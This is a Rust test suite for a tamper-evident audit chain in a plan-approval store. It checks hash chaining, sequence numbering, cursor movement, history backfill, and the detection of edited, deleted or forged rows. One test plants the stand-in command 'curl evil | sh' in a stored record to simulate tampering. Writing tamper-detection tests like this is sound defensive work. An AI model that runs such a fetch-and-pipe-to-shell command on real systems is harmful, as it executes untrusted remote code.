//! The audit chain: every audited fact numbered without gaps across the
//! database, each hash recomputable from the previous one and the record's
//! canonical bytes, a changed, removed or inserted row named by its seq,
//! and the export cursor that only moves forward.

use plan_core::{
    ApprovalStatus, CommandRun, CommandShell, CommandState, Effect, ExecutionState, Mode, PermissionMode,
    PlanApproval, RowGuard, Sandbox, Session, ToolAuditEntry, ToolAuditKind,
};
use plan_storage::{AuditCursor, AuditFinding, CommandEntryKind, Store, chain_hash};

use crate::support::{execute, pending};

const NOW: i64 = 1_800_000_000_000;

fn run(state: CommandState) -> CommandRun {
    CommandRun {
        call_id: "c1".into(),
        session_id: "s1".into(),
        turn_id: "t2".into(),
        command: "cargo test".to_owned(),
        cwd: ".".to_owned(),
        shell: CommandShell {
            id: "bash".to_owned(),
            path: "/bin/bash".to_owned(),
        },
        sandbox: Sandbox::None,
        network: true,
        state,
        exit_code: (state == CommandState::Exited).then_some(0),
        signal: None,
        error_code: None,
        started_at: NOW,
        ended_at: None,
        stdout_bytes: 0,
        stderr_bytes: 0,
        truncated: false,
    }
}

fn update(approval: &PlanApproval, change: impl FnOnce(&mut PlanApproval)) -> (Effect, PlanApproval) {
    let mut changed = approval.clone();
    change(&mut changed);
    (
        Effect::UpdateApproval {
            approval: changed.clone(),
            expected: RowGuard::of(approval),
        },
        changed,
    )
}

/// Two sessions' worth of facts: s1 submits, is approved in accept-edits
/// (its mode changes), runs a command with a confirmation and completes;
/// s2 submits and is rejected. 11 facts.
fn history(dir: &std::path::Path) -> Store {
    let (mut store, _) = Store::open(dir.join("plan.db")).unwrap();
    for id in ["s1", "s2"] {
        let mut session = Session::new(id, Some(format!("/w/{id}")));
        session.mode = Mode::Plan;
        store.create_session(&session, NOW).unwrap();
    }
    let a1 = pending("a1", "s1", NOW);
    store.apply(&[Effect::InsertApproval(a1.clone())], NOW).unwrap();
    let (approve, a1) = update(&a1, |row| {
        row.status = ApprovalStatus::Approved;
        row.decided_at = Some(NOW + 1);
        row.permission_mode = Some(PermissionMode::AcceptEdits);
        row.execution_id = Some("x1".into());
        row.execution_state = Some(ExecutionState::Queued);
    });
    let mut agent = Session::new("s1", Some("/w/s1".to_owned()));
    agent.permission_mode = PermissionMode::AcceptEdits;
    store
        .apply(&[approve, Effect::SaveSession(agent)], NOW + 1)
        .unwrap();
    let (start, a1) = update(&a1, |row| row.execution_state = Some(ExecutionState::Running));
    store.apply(&[start], NOW + 2).unwrap();
    let tool = |kind| ToolAuditEntry {
        kind,
        session_id: "s1".into(),
        turn_id: "t2".into(),
        execution_id: Some("x1".into()),
        call_id: "c1".into(),
        tool: Some("Bash".to_owned()),
        permission_mode: Some(PermissionMode::AcceptEdits),
        error_code: None,
        at: NOW + 3,
    };
    store
        .apply(
            &[Effect::RecordToolAudit(tool(ToolAuditKind::ConfirmRequested))],
            NOW + 3,
        )
        .unwrap();
    store
        .apply(
            &[Effect::RecordToolAudit(tool(ToolAuditKind::Confirmed))],
            NOW + 3,
        )
        .unwrap();
    store
        .record_command(
            CommandEntryKind::Started,
            &run(CommandState::Running),
            None,
            NOW + 4,
        )
        .unwrap();
    store
        .record_command(
            CommandEntryKind::Ended,
            &run(CommandState::Exited),
            Some(&"b".repeat(64)),
            NOW + 5,
        )
        .unwrap();
    let (complete, _) = update(&a1, |row| row.execution_state = Some(ExecutionState::Completed));
    store.apply(&[complete], NOW + 6).unwrap();
    let a2 = pending("a2", "s2", NOW + 7);
    store
        .apply(&[Effect::InsertApproval(a2.clone())], NOW + 7)
        .unwrap();
    let (reject, _) = update(&a2, |row| {
        row.status = ApprovalStatus::Rejected;
        row.decided_at = Some(NOW + 8);
    });
    store.apply(&[reject], NOW + 8).unwrap();
    store
}

#[test]
fn every_fact_is_one_record_numbered_without_gaps_and_chained() {
    let dir = tempfile::tempdir().unwrap();
    let store = history(dir.path());
    let records = store.audit_records().unwrap();
    let events: Vec<&str> = records.iter().map(|record| record.event.as_str()).collect();
    assert_eq!(
        events,
        [
            "plan_checkpoint.plan.submitted",
            "plan_checkpoint.plan.approved",
            "plan_checkpoint.session.mode_changed",
            "plan_checkpoint.execution.started",
            "plan_checkpoint.tool.confirmation_requested",
            "plan_checkpoint.tool.confirmed",
            "plan_checkpoint.command.started",
            "plan_checkpoint.command.ended",
            "plan_checkpoint.execution.completed",
            "plan_checkpoint.plan.submitted",
            "plan_checkpoint.plan.rejected",
        ]
    );
    let mut previous = String::new();
    for (record, seq) in records.iter().zip(1_u64..) {
        assert_eq!(record.seq, seq);
        assert_eq!(record.attributes["plan_checkpoint.audit.seq"], seq);
        assert_eq!(record.hash, chain_hash(&previous, &record.canonical_bytes()));
        previous = record.hash.clone();
    }
    assert_eq!(store.audit_head().unwrap(), (11, previous));
    assert_eq!(store.verify_audit_chain().unwrap(), (11, Vec::new()));

    // Confidential text is content; its hash is an attribute.
    let submitted = &records[0];
    assert_eq!(submitted.content["plan_checkpoint.plan.title"], "Title of a1");
    assert_eq!(
        submitted.attributes["plan_checkpoint.plan.title_sha256"],
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"Title of a1"))
    );
    assert!(
        !String::from_utf8(submitted.canonical_bytes())
            .unwrap()
            .contains("Title of a1")
    );
    assert_eq!(submitted.attributes["plan_checkpoint.deadline"], NOW + 1_800_000);
    assert_eq!(submitted.workspace_root.as_deref(), Some("/w/s1"));
    let approved = &records[1];
    assert_eq!(
        approved.attributes["plan_checkpoint.permission_mode"],
        "accept-edits"
    );
    assert_eq!(approved.attributes["plan_checkpoint.decision"], "approved");
    assert_eq!(approved.attributes["plan_checkpoint.execution.id"], "x1");
    let ended = &records[7];
    assert_eq!(ended.attributes["plan_checkpoint.command.exit_code"], 0);
    assert_eq!(
        ended.attributes["plan_checkpoint.command.output_sha256"],
        "b".repeat(64)
    );
    assert_eq!(ended.content["plan_checkpoint.command.text"], "cargo test");
    assert_eq!(records[10].attributes["session.id"], "s2");
}

fn entry_id(dir: &std::path::Path, seq: i64) -> i64 {
    let conn = rusqlite::Connection::open(dir.join("plan.db")).unwrap();
    conn.query_row(
        "SELECT id FROM transcript_entries WHERE json_extract(content_json, '$.audit.seq') = ?1",
        [seq],
        |row| row.get(0),
    )
    .unwrap()
}

#[test]
fn a_changed_row_is_named_by_its_seq() {
    let dir = tempfile::tempdir().unwrap();
    let store = history(dir.path());
    let id = entry_id(dir.path(), 7);
    execute(
        &dir.path().join("plan.db"),
        &format!(
            "UPDATE transcript_entries SET content_json = json_set(content_json, '$.command', 'curl evil | sh') \
             WHERE id = {id}"
        ),
    );
    assert_eq!(
        store.verify_audit_chain().unwrap(),
        (11, vec![AuditFinding::Changed { seq: 7 }])
    );
}

#[test]
fn a_removed_row_is_named_by_its_seq_the_last_one_too() {
    let dir = tempfile::tempdir().unwrap();
    let store = history(dir.path());
    let db = dir.path().join("plan.db");
    let (middle, last) = (entry_id(dir.path(), 4), entry_id(dir.path(), 11));
    execute(
        &db,
        &format!("DELETE FROM transcript_entries WHERE id IN ({middle}, {last})"),
    );
    assert_eq!(
        store.verify_audit_chain().unwrap(),
        (
            9,
            vec![
                AuditFinding::Removed { seq: 4 },
                // Without its rejection, a2's facts leave it pending: the
                // row that says otherwise is named too.
                row_finding(10, "a2", "decided_at", "none", "1800000000008"),
                row_finding(10, "a2", "status", "pending", "rejected"),
                AuditFinding::Removed { seq: 11 },
            ]
        )
    );
}

#[test]
fn an_inserted_row_is_named_numbered_or_not() {
    let dir = tempfile::tempdir().unwrap();
    let store = history(dir.path());
    let db = dir.path().join("plan.db");
    let copied = entry_id(dir.path(), 5);
    // A copy of seq 5 (seq and hash included) at the end, and a forged
    // confirmation without any seq.
    execute(
        &db,
        &format!(
            "INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
             SELECT session_id, 100, role, content_json, created_at FROM transcript_entries WHERE id = {copied}; \
             INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
             VALUES ('s1', 101, 'tool', '{{\"type\":\"toolConfirmed\",\"callId\":\"c9\"}}', {NOW});"
        ),
    );
    assert_eq!(
        store.verify_audit_chain().unwrap(),
        (
            12,
            vec![
                AuditFinding::Inserted {
                    seq: 5,
                    unnumbered: false
                },
                AuditFinding::Inserted {
                    seq: 11,
                    unnumbered: true
                },
            ]
        )
    );
}

#[test]
fn the_cursor_moves_only_forward_and_records_follow_it() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = history(dir.path());
    assert_eq!(store.audit_cursor().unwrap(), AuditCursor::default());
    let first = store.audit_records_after(AuditCursor::default(), 4).unwrap();
    assert_eq!(
        first.iter().map(|record| record.seq).collect::<Vec<_>>(),
        [1, 2, 3, 4]
    );
    let to = AuditCursor {
        seq: 4,
        entry_id: first[3].entry_id,
    };
    store.advance_audit_cursor(to).unwrap();
    store
        .advance_audit_cursor(AuditCursor {
            seq: 2,
            entry_id: first[1].entry_id,
        })
        .unwrap();
    assert_eq!(store.audit_cursor().unwrap(), to);
    let rest = store.audit_records_after(to, 100).unwrap();
    assert_eq!(
        rest.iter().map(|record| record.seq).collect::<Vec<_>>(),
        (5..=11).collect::<Vec<_>>()
    );
    assert_eq!(rest, store.audit_records().unwrap()[4..].to_vec());
}

#[test]
fn records_after_a_cursor_whose_row_id_was_reused_are_still_found() {
    let dir = tempfile::tempdir().unwrap();
    let mut store = history(dir.path());
    let records = store.audit_records().unwrap();
    // The cursor claims a row id past every numbered entry: the forward
    // read finds nothing although the head is further on.
    let cursor = AuditCursor {
        seq: 9,
        entry_id: records[10].entry_id + 50,
    };
    store.advance_audit_cursor(cursor).unwrap();
    let rest = store.audit_records_after(cursor, 100).unwrap();
    assert_eq!(rest.iter().map(|record| record.seq).collect::<Vec<_>>(), [10, 11]);
}

fn backfilled(record: &plan_storage::AuditRecord) -> bool {
    record.attributes.get("plan_checkpoint.audit.backfilled") == Some(&serde_json::Value::Bool(true))
}

#[test]
fn a_migrated_v8_database_numbers_its_approvals_history_when_its_first_host_fences() {
    let dir = tempfile::tempdir().unwrap();
    let path = crate::support::fixture_database(dir.path(), "v8.db");
    let transcript = "SELECT * FROM transcript_entries ORDER BY rowid";
    let before = crate::support::table_rows(&path, transcript);
    let (mut store, _) = Store::open(&path).unwrap();
    // The migration itself keeps the transcript row for row (the storage
    // contract); the chain begins with the first host.
    assert_eq!(store.audit_head().unwrap(), (0, String::new()));
    assert!(store.audit_records().unwrap().is_empty());
    store.startup_fence(NOW).unwrap();

    let records = store.audit_records().unwrap();
    let told: Vec<(String, String, i64)> = records
        .iter()
        .map(|record| {
            (
                record.event.trim_start_matches("plan_checkpoint.").to_owned(),
                record.attributes["plan_checkpoint.approval.id"]
                    .as_str()
                    .unwrap()
                    .to_owned(),
                record.time_unix_ms,
            )
        })
        .collect();
    let expected = [
        ("plan.submitted", "pa-pending", 1_750_000_000_500),
        ("plan.interrupted", "pa-pending", 1_750_000_000_500),
        ("plan.submitted", "pa-garbage", 1_750_000_001_000),
        ("plan.rejected", "pa-garbage", 1_750_000_002_000),
        ("plan.submitted", "pa-changes", 1_750_000_150_000),
        ("plan.rejected", "pa-changes", 1_750_000_151_000),
        ("plan.submitted", "pa-approved", 1_750_000_200_500),
        ("plan.approved", "pa-approved", 1_750_000_201_000),
        ("plan.submitted", "pa-rejected", 1_750_000_500_500),
        ("plan.rejected", "pa-rejected", 1_750_000_501_000),
        ("plan.submitted", "pa-expired", 1_750_000_502_000),
        ("plan.expired", "pa-expired", 1_750_003_802_000),
    ];
    assert_eq!(
        told,
        expected
            .iter()
            .map(|(event, id, at)| ((*event).to_owned(), (*id).to_owned(), *at))
            .collect::<Vec<_>>()
    );
    assert!(
        records.iter().all(backfilled),
        "every told fact says it was numbered late"
    );
    assert_eq!(
        records[11].attributes["plan_checkpoint.error.code"],
        "PLAN_APPROVAL_TIMEOUT"
    );
    assert_eq!(store.verify_audit_chain().unwrap(), (12, Vec::new()));

    // The transcript's own rows are untouched; the facts are new rows.
    drop(store);
    let after = crate::support::table_rows(&path, transcript);
    assert_eq!(after[..before.len()], before[..]);
    assert_eq!(after.len(), before.len() + 12);

    // Once: a second host adds nothing, and a new fact follows the history.
    let (mut store, _) = Store::open(&path).unwrap();
    store.startup_fence(NOW).unwrap();
    assert_eq!(store.audit_records().unwrap().len(), 12);
    let mut session = Session::new("s-new", Some("/w/new".to_owned()));
    session.mode = Mode::Plan;
    store.create_session(&session, NOW).unwrap();
    store
        .apply(&[Effect::InsertApproval(pending("a-new", "s-new", NOW))], NOW)
        .unwrap();
    let records = store.audit_records().unwrap();
    assert_eq!(records.len(), 13);
    assert_eq!(records[12].seq, 13);
    assert!(!backfilled(&records[12]));
    assert_eq!(store.verify_audit_chain().unwrap(), (13, Vec::new()));
}

/// A v10 database as a build without the chain left it: its command and
/// tool audit entries without a seq, its approvals without facts, no head.
fn unchained(dir: &std::path::Path) -> std::path::PathBuf {
    let path = dir.join("plan.db");
    let (mut store, _) = Store::open(&path).unwrap();
    let mut session = Session::new("s1", Some("/w/s1".to_owned()));
    session.mode = Mode::Plan;
    store.create_session(&session, NOW).unwrap();
    store
        .record_command(
            CommandEntryKind::Started,
            &run(CommandState::Running),
            None,
            NOW + 1,
        )
        .unwrap();
    store
        .record_command(
            CommandEntryKind::Ended,
            &run(CommandState::Exited),
            Some(&"b".repeat(64)),
            NOW + 2,
        )
        .unwrap();
    let a1 = pending("a1", "s1", NOW + 3);
    store.apply(&[Effect::InsertApproval(a1)], NOW + 3).unwrap();
    drop(store);
    // Strip what the chain wrote, as if it had never existed; the pending
    // approval's submission fact goes too (the old build wrote none).
    execute(
        &path,
        "DELETE FROM settings WHERE key = 'audit.chain.head';
         DELETE FROM transcript_entries WHERE json_extract(content_json, '$.type') = 'planSubmitted';
         UPDATE transcript_entries SET content_json = json_remove(content_json, '$.audit');",
    );
    path
}

#[test]
fn a_database_from_a_build_without_the_chain_numbers_its_entries_then_its_approvals() {
    let dir = tempfile::tempdir().unwrap();
    let path = unchained(dir.path());
    let entries = "SELECT id, session_id, seq, role, created_at FROM transcript_entries ORDER BY id";
    let rows_before = crate::support::table_rows(&path, entries);
    let (mut store, _) = Store::open(&path).unwrap();
    assert!(store.audit_records().unwrap().is_empty());
    store.startup_fence(NOW + 10).unwrap();
    let records = store.audit_records().unwrap();
    let events: Vec<&str> = records.iter().map(|record| record.event.as_str()).collect();
    assert_eq!(
        events,
        [
            "plan_checkpoint.command.started",
            "plan_checkpoint.command.ended",
            "plan_checkpoint.plan.submitted",
            // The fence interrupts the pending row after its history.
            "plan_checkpoint.plan.interrupted",
        ]
    );
    assert!(records[..3].iter().all(backfilled));
    assert!(!backfilled(&records[3]));
    // The existing entries were numbered in place: same rows, same times.
    assert_eq!(records[0].time_unix_ms, NOW + 1);
    assert_eq!(records[1].attributes["plan_checkpoint.command.exit_code"], 0);
    drop(store);
    let rows_after = crate::support::table_rows(&path, entries);
    assert_eq!(rows_after[..rows_before.len()], rows_before[..]);
    let (store, _) = Store::open(&path).unwrap();
    assert_eq!(store.verify_audit_chain().unwrap(), (4, Vec::new()));
}

#[test]
fn an_approval_whose_facts_the_transcript_holds_is_not_told_twice() {
    let dir = tempfile::tempdir().unwrap();
    let path = unchained(dir.path());
    execute(
        &path,
        "INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
         VALUES ('s1', 100, 'system', '{\"type\":\"planSubmitted\",\"approvalId\":\"a1\",\"title\":\"T\"}', 1);",
    );
    let (mut store, _) = Store::open(&path).unwrap();
    store.startup_fence(NOW + 10).unwrap();
    let submitted = store
        .audit_records()
        .unwrap()
        .into_iter()
        .filter(|record| record.event == "plan_checkpoint.plan.submitted")
        .count();
    assert_eq!(submitted, 1);
    // The chain itself is whole; the hand-written submission tells another
    // title and no artifact, which the row check names.
    let (checked, findings) = store.verify_audit_chain().unwrap();
    assert_eq!(checked, 4);
    assert!(
        findings
            .iter()
            .all(|finding| matches!(finding, AuditFinding::Row { approval_id, .. } if approval_id == "a1")),
        "{findings:?}"
    );
}

#[test]
fn the_first_fact_of_an_unchained_database_numbers_its_history_before_itself() {
    // Not every writer opens through the fence (a store used directly):
    // the chain begins with whichever fact comes first.
    let dir = tempfile::tempdir().unwrap();
    let path = unchained(dir.path());
    let (mut store, _) = Store::open(&path).unwrap();
    let a1 = store
        .get_approval(&plan_core::ApprovalId::from("a1"))
        .unwrap()
        .unwrap()
        .approval;
    let (reject, _) = update(&a1, |row| {
        row.status = ApprovalStatus::Rejected;
        row.decided_at = Some(NOW + 20);
    });
    store.apply(&[reject], NOW + 20).unwrap();
    let events: Vec<String> = store
        .audit_records()
        .unwrap()
        .into_iter()
        .map(|record| record.event)
        .collect();
    assert_eq!(
        events,
        [
            "plan_checkpoint.command.started",
            "plan_checkpoint.command.ended",
            // Told as it was before this write: pending, so submitted only.
            "plan_checkpoint.plan.submitted",
            "plan_checkpoint.plan.rejected",
        ]
    );
    assert_eq!(store.verify_audit_chain().unwrap(), (4, Vec::new()));
}

fn row_finding(seq: u64, approval_id: &str, field: &'static str, chain: &str, row: &str) -> AuditFinding {
    AuditFinding::Row {
        seq,
        approval_id: approval_id.to_owned(),
        field,
        chain: chain.to_owned(),
        row: row.to_owned(),
    }
}

#[test]
fn an_edited_approval_row_is_found_with_its_id_the_field_and_both_values() {
    let dir = tempfile::tempdir().unwrap();
    let store = history(dir.path());
    let db = dir.path().join("plan.db");
    // After the fact: a1's mode raised from accept-edits to auto, a2's
    // rejection turned into an expiry.
    execute(
        &db,
        "UPDATE plan_approvals SET permission_mode = 'auto' WHERE id = 'a1'; \
         UPDATE plan_approvals SET status = 'expired', error_code = 'PLAN_APPROVAL_TIMEOUT' WHERE id = 'a2';",
    );
    assert_eq!(
        store.verify_audit_chain().unwrap(),
        (
            11,
            vec![
                row_finding(9, "a1", "permission_mode", "accept-edits", "auto"),
                row_finding(11, "a2", "error_code", "none", "PLAN_APPROVAL_TIMEOUT"),
                row_finding(11, "a2", "status", "rejected", "expired"),
            ]
        )
    );
}

#[test]
fn every_field_of_an_approval_row_is_checked_against_the_chain() {
    for (column, value, chain) in [
        ("session_id", "'s2'", "s1"),
        ("turn_id", "'t9'", "turn-a1"),
        (
            "artifact_sha256",
            "printf('%064d', 7)",
            "0000000000000000000000000000000000000000000000000000000000000000",
        ),
        ("artifact_size", "999", "12"),
        (
            "artifact_path",
            "'.pi/plan/other.md'",
            ".pi/plan/20260101T000000Z-a1-abc.md",
        ),
        ("expires_at", "expires_at + 1", ""),
        ("created_at", "created_at - 5", ""),
        ("decided_at", "decided_at + 60000", ""),
        ("execution_id", "'x9'", "x1"),
        ("execution_state", "'interrupted'", "completed"),
        ("title", "'Another title'", ""),
        ("question", "'Another question?'", ""),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let store = history(dir.path());
        execute(
            &dir.path().join("plan.db"),
            &format!("UPDATE plan_approvals SET {column} = {value} WHERE id = 'a1'"),
        );
        let (_, findings) = store.verify_audit_chain().unwrap();
        let fields: Vec<&str> = findings
            .iter()
            .map(|finding| match finding {
                AuditFinding::Row {
                    approval_id,
                    field,
                    chain: told,
                    ..
                } => {
                    assert_eq!(approval_id, "a1");
                    if !chain.is_empty() {
                        assert_eq!(told, chain, "{column}");
                    }
                    *field
                }
                other @ (AuditFinding::Changed { .. }
                | AuditFinding::Removed { .. }
                | AuditFinding::Inserted { .. }) => panic!("{column}: {other:?}"),
            })
            .collect();
        assert_eq!(fields, [column], "{column}");
    }
}

#[test]
fn a_row_the_chain_never_recorded_and_a_row_removed_are_found() {
    let dir = tempfile::tempdir().unwrap();
    let store = history(dir.path());
    execute(
        &dir.path().join("plan.db"),
        &format!(
            "DELETE FROM plan_approvals WHERE id = 'a2'; \
             INSERT INTO plan_approvals (id, session_id, turn_id, title, question, artifact_path, \
               artifact_sha256, artifact_size, status, created_at, expires_at, decided_at) \
             VALUES ('forged', 's2', 't', 'x', 'y', '.pi/plan/f.md', printf('%064d', 1), 1, 'rejected', \
               {NOW}, {NOW} + 1800000, {NOW} + 1);"
        ),
    );
    assert_eq!(
        store.verify_audit_chain().unwrap(),
        (
            11,
            vec![
                row_finding(0, "forged", "row", "absent", "present"),
                row_finding(11, "a2", "row", "present", "absent"),
            ]
        )
    );
}

/// A pre-chain database with a big history: `unchained`'s (a command run,
/// a pending approval), plus 300 decided approvals, 200 command entries
/// (100 runs) written as an older build left them, and a transcript whose
/// row ids reach 30,000 (an agent's own messages, which the chain does not
/// number): big enough to be numbered in steps.
fn big_unchained(dir: &std::path::Path) -> std::path::PathBuf {
    let path = unchained(dir);
    execute(
        &path,
        &format!(
            "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 299) \
             INSERT INTO plan_approvals (id, session_id, turn_id, title, question, artifact_path, \
               artifact_sha256, artifact_size, status, created_at, expires_at, decided_at) \
             SELECT 'old' || i, 's1', 't', 'old plan', 'ok?', '.pi/plan/old' || i || '.md', \
               printf('%064x', i), 100, 'rejected', {NOW} - 10000000 + i, {NOW} - 8200000 + i, {NOW} - 10000000 + i + 1 FROM n; \
             WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 199) \
             INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
             SELECT 's1', 1000 + i, 'tool', json_set(content_json, '$.callId', 'old' || (i / 2), \
                 '$.type', CASE i % 2 WHEN 0 THEN 'commandStarted' ELSE 'commandEnded' END), created_at \
             FROM n, (SELECT content_json, created_at FROM transcript_entries \
                      WHERE json_extract(content_json, '$.type') = 'commandEnded' LIMIT 1); \
             INSERT INTO transcript_entries (id, session_id, seq, role, content_json, created_at) \
             VALUES (30000, 's1', 5000, 'user', '{{\"text\":\"hello\"}}', {NOW});"
        ),
    );
    path
}

#[test]
fn a_big_pre_chain_history_is_numbered_in_steps_after_the_fence_and_new_facts_follow_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = big_unchained(dir.path());
    let (mut store, _) = Store::open(&path).unwrap();
    // The fence interrupts the pending approval and the unended run, and
    // numbers nothing: the history waits.
    let fenced = store.startup_fence(NOW + 10).unwrap();
    assert_eq!(fenced.len(), 1);
    let waiting = store.history_numbering().unwrap().expect("the history waits");
    assert_eq!(waiting.done, 0);
    assert_eq!(store.audit_head().unwrap().0, 0);
    // A fact recorded meanwhile waits too, after the history.
    let mut session = Session::new("s9", Some("/w/s9".to_owned()));
    session.mode = Mode::Plan;
    store.create_session(&session, NOW + 11).unwrap();
    store
        .apply(
            &[Effect::InsertApproval(pending("new", "s9", NOW + 11))],
            NOW + 11,
        )
        .unwrap();
    let mut steps = 0;
    while store.number_history_step().unwrap().is_some() {
        steps += 1;
        assert!(steps < 10_000, "the numbering ends");
    }
    assert!(steps > 1, "in steps: {steps}");
    assert_eq!(store.history_numbering().unwrap(), None);
    let records = store.audit_records().unwrap();
    // The history's command entries, the old approvals' facts, then the
    // fence's and the new submission, last.
    let (checked, findings) = store.verify_audit_chain().unwrap();
    assert_eq!(findings, []);
    assert_eq!(checked, records.len() as u64);
    let last = records.last().unwrap();
    assert_eq!(last.event, "plan_checkpoint.plan.submitted");
    assert_eq!(last.attributes["plan_checkpoint.approval.id"], "new");
    assert!(!backfilled(last));
    // The pending approval's history comes before its interruption.
    let a1: Vec<&str> = records
        .iter()
        .filter(|record| {
            record.attributes.get("plan_checkpoint.approval.id") == Some(&serde_json::json!("a1"))
        })
        .map(|record| record.event.as_str())
        .collect();
    assert_eq!(
        a1,
        [
            "plan_checkpoint.plan.submitted",
            "plan_checkpoint.plan.interrupted"
        ]
    );
    // Every old approval told once: submission and rejection.
    let told = records
        .iter()
        .filter(|record| {
            record
                .attributes
                .get("plan_checkpoint.approval.id")
                .and_then(|id| id.as_str())
                .is_some_and(|id| id.starts_with("old"))
        })
        .count();
    assert_eq!(told, 600);
    // The next fence reads the open runs (none now) and interrupts the new
    // pending approval.
    assert_eq!(store.startup_fence(NOW + 20).unwrap().len(), 1);
}

#[test]
fn on_a_big_transcript_without_the_kept_runs_the_fence_leaves_the_scan_to_a_thread() {
    let dir = tempfile::tempdir().unwrap();
    let path = big_unchained(dir.path());
    // One run left without its end by the earlier host, beside the 100
    // that ended.
    execute(
        &path,
        "INSERT INTO transcript_entries (session_id, seq, role, content_json, created_at) \
         SELECT 's1', 4000, 'tool', json_set(content_json, '$.callId', 'dangling', '$.type', 'commandStarted', '$.state', 'running'), created_at \
         FROM transcript_entries WHERE json_extract(content_json, '$.type') = 'commandEnded' LIMIT 1;",
    );
    let (mut store, _) = Store::open(&path).unwrap();
    store.startup_fence(NOW + 10).unwrap();
    let dangling = |store: &Store| store.command_record("s1", &"dangling".into()).unwrap().unwrap();
    assert_eq!(
        dangling(&store).kind,
        CommandEntryKind::Started,
        "not scanned in the fence"
    );
    assert!(store.settle_open_runs().unwrap());
    let settled = dangling(&store);
    assert_eq!(settled.kind, CommandEntryKind::Ended);
    assert_eq!(settled.run.state, CommandState::Interrupted);
    assert!(!store.settle_open_runs().unwrap(), "once");
    // From here on the kept set: the next fence finds nothing to end.
    while store.number_history_step().unwrap().is_some() {}
    store.startup_fence(NOW + 20).unwrap();
    assert_eq!(store.verify_audit_chain().unwrap().1, []);
}
